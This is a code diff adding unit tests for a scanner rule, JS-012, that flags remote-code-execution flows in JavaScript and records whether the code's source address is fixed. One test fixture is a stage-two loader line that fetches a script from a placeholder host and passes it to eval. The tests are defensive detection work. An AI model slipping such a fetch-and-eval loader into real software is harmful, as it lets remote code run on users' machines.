@@ -17,3 +17,17 @@ describe('JS-012 remote-code-execution-flow', () => {
     expect(await ruleFindings('JS-012', code)).toHaveLength(0);
   });
 });
+
+describe('JS-012 evidence of where the code comes from', () => {
+  it('records a constant address (what a loader has)', async () => {
+    const code = `fetch('https://x.invalid/stage2.js').then((r) => r.text()).then((t) => eval(t));`;
+    const f = await ruleFindings('JS-012', code);
+    expect(f[0]?.evidence?.fixedUrl).toBe('https://x.invalid/stage2.js');
+  });
+  it("records none for an address the application computes (a dev server's lazy bundles)", async () => {
+    const code = `async function load(server, id) { const r = await fetch(server + '/bundles/' + id); const body = await r.text(); globalThis.eval(body); }`;
+    const f = await ruleFindings('JS-012', code);
+    expect(f).toHaveLength(1);
+    expect(f[0]!.evidence?.fixedUrl).toBeUndefined();
+  });
+});
